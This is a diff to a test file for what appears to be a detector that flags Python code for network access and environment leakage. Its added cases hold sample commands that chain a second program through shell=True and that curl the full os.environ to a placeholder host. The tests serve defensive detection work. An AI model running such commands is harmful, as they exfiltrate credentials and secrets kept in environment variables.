@@ -18,6 +18,9 @@ test('what is cloned is started by a program that is told to, and not by what ma
   expect(told(`${clone}subprocess.run(['uv', 'venv', '--seed', '/tmp/own/.venv'])`)).not.toContain(
     'network+dropped',
   );
+  expect(told(`${clone}subprocess.run('uv venv /tmp/own/.venv && /tmp/own/go', shell=True)`)).toContain(
+    'network+dropped',
+  );
 });
 
 test('the environment of a program is nothing that it is told', () => {
@@ -25,4 +28,10 @@ test('the environment of a program is nothing that it is told', () => {
     told(`import os, subprocess\nsubprocess.run(['curl', 'https://a.weir.test/x'${rest})`);
   expect(curl("], env={**os.environ, 'A': 'b'}")).not.toContain('envAll');
   expect(curl(", '-d', str(os.environ)]")).toContain('envAll');
+  // What the command itself puts in is told.
+  expect(
+    told(
+      "import os, subprocess\nsubprocess.run('curl -d \"$DATA\" https://a.weir.test/x', shell=True, env={'DATA': str(os.environ)})",
+    ),
+  ).toContain('envAll');
 });
